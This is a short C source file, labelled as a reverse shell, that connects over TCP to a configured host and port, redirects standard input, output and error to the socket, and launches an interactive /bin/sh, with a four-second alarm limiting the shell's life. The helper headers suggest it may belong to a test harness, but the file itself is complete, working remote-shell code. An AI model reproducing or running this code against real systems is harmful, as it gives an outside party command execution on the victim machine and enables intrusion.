/* reverse-shell (C): socket, dup2 onto stdin/stdout/stderr, exec a shell. */
#include <stdio.h>
#include <unistd.h>

#include "net.h"
#include "targets.h"

int main(int argc, char **argv)
{
	int fd;

	targets_load(argc, argv);
	if ((fd = connect_tcp(target("T_TCP_HOST"), target("T_TCP_PORT"))) < 0)
		return 1;
	alarm(4); /* survives exec: the shell cannot outlive a lost attacker */
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	return 1;
}
